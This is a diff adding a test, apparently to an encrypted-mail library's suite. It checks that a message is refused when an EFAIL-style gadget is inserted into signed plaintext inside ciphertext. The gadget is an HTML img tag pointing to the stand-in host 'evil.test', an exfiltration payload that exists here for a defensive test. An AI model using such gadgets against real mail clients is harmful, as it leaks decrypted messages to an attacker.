@@ -286,6 +286,17 @@ describe('B3 gadgets in cipher text that nothing vouches for', () => {
     expect(await world.deliver(intact)).toMatchObject({ result: 'pass', encryption: 'opened' })
   })
 
+  test('B3 what is put around a good signature is seen', async () => {
+    const signed = (await world.signed(SECRET_TEXT, 'ann')).toString('latin1')
+    // Two blocks of rubbish and a reference, in front of the first delimiter, where nobody has signed.
+    const gadget = `<img src="http://evil.test/${String.fromCharCode(1, 2, 0xfe, 0xff, 7, 27)}\r\n`
+    const altered = signed.replace('\r\n\r\n', `\r\n\r\n${gadget}`)
+    const message = world.message(await world.encrypted(Buffer.from(altered, 'latin1'), ['bob']))
+    const { result, encryption, body } = await world.deliver(message)
+    expect([result, encryption]).toEqual(['none', 'refused'])
+    expect(body).not.toContain('evil.test')
+  })
+
   test('B3 without a tag and without a signature, an honest text is opened, and is no more', async () => {
     const message = world.message(await world.encrypted(SECRET_TEXT, ['bob']))
     const copy = await world.deliver(message)
